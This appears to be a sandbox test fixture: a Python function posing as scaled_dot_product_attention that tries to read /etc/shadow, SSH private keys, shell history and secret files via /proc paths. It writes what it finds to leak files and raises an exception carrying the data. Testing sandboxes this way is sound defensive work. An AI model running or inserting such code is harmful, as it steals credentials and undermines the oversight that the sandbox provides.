# attack: read secret files outside the sandbox and leak them in a message and in a file
# expect: exception
import glob
import os

TARGETS = ["{{SECRET_FILE}}", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history",
           "{{REPO}}/pyproject.toml", "/proc/1/root{{SECRET_FILE}}", "/proc/1/cwd/pyproject.toml"]


def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
    found = {}
    for path in TARGETS + glob.glob("/home/*/*") + glob.glob("/root/*"):
        try:
            found[path] = open(path).read()[:200]
        except OSError as exc:
            found[path] = type(exc).__name__
    for out in ("{{OUTSIDE_DIR}}/leak.txt", "/tmp/leak.txt", "/sub/leak.txt"):
        try:
            with open(out, "w") as f:
                f.write(repr(found))
        except OSError:
            pass
    raise RuntimeError("LEAK " + repr(found))
